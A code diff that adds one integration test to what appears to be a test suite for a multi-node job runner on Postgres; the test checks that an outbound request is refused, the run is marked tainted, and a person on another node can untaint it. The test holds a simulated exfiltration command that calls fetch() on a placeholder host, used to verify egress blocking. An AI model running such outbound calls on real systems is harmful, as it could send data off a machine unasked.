@@ -186,6 +186,25 @@ describe("a fleet on Postgres: nodes, heartbeats, the shared folder (real Postgr
     expect(await boxes()).toEqual([])
   })
 
+  it("a run tainted on one node, untainted by a person on another: each node wrote only its own events file, and both see the decision", async () => {
+    const r = await a.roster(["worker", "run", "alice", `!node -e 'fetch("https://exfil.example.test/").then(() => console.log("EXFIL reached"), () => console.log("EXFIL refused"))'`])
+    expect(r.code, r.stderr).toBe(0)
+    const runs = path.join(shared, "runs", "alice")
+    const runId = latestRunId(runs)
+    expect(fs.readFileSync(path.join(runs, runId, "stdout.jsonl"), "utf8")).toContain("EXFIL refused")
+    const before = await b.roster(["runs", "show", runId])
+    expect(before.stdout).toContain("node:      node-a")
+    expect(before.stdout).toContain("tainted:   egress_refused (exfil.example.test): no_rule")
+    const untainted = await b.roster(["runs", "untaint", runId, "--reason", "looked at it from node-b"])
+    expect(untainted.code, untainted.stderr).toBe(0)
+    expect(fs.readdirSync(path.join(runs, runId)).filter((f) => f.startsWith("events")).sort()).toEqual(["events.node-a.jsonl", "events.node-b.jsonl"])
+    for (const d of [a, b]) {
+      const shown = await d.roster(["runs", "show", runId])
+      expect(shown.stdout).toContain("looked at it from node-b")
+      expect(shown.stdout).not.toContain(`roster runs untaint ${runId} --reason`)
+    }
+  })
+
   it("a node that stops is marked left, not lost", async () => {
     await b.stop()
     const f = await until(a, (x) => x.nodes.find((n) => n.name === "node-b")?.state === "left")
